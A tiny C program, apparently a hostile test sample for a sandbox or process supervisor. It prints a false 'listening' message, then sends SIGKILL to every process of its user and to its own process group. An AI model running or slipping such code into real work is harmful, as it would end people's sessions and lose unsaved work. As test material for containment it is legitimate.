/* hostile: kills everything it may: every process of its user, then its own group. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int
main(void)
{
	printf("listening on 127.0.0.1:9\n");
	fflush(stdout);
	kill(-1, SIGKILL);
	kill(0, SIGKILL);
	return 0;
}
